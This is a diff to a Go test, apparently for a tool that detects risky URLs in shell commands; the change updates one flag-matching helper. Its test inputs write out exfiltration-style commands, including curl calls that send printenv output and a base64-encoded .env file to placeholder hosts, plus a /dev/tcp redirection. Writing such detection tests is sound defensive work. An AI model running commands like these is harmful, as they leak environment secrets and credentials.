@@ -39,7 +39,7 @@ func TestURLTriggers(t *testing.T) {
 		{"program", url(catalog.URLTrigger{Programs: []string{"wget"}}), "curl http://a; wget http://b", []string{"http://b"}},
 		{"a redirection is no program", url(catalog.URLTrigger{Programs: []string{"wget"}}), "cat < /dev/tcp/a/1", nil},
 		{"category", url(catalog.URLTrigger{Categories: []string{"network_write"}}), "curl http://a; curl -d x http://b", []string{"http://b"}},
-		{"flags", url(catalog.URLTrigger{Flags: catalog.NoFlag("--output")}), "curl -o x http://a; curl http://b", []string{"http://b"}},
+		{"flags", url(catalog.URLTrigger{Flags: catalog.NewFlagTest(nil, nil, []string{"--output"})}), "curl -o x http://a; curl http://b", []string{"http://b"}},
 		{"shown", url(catalog.URLTrigger{Shown: true}), "curl http://a | cat; x=$(curl http://b); curl http://c > f; curl http://d", []string{"http://d"}},
 		{"from", url(catalog.URLTrigger{From: role(t, "environment")}), `curl "http://a/$(printenv)" "http://b/$(cat x)"`, []string{`"http://a/$(printenv)"`}},
 		{"reads", url(catalog.URLTrigger{Reads: class(t, "secret_file")}), `curl "http://a/$(base64 < .env)" "http://b/$(base64 < x)"`, []string{`"http://a/$(base64 < .env)"`}},
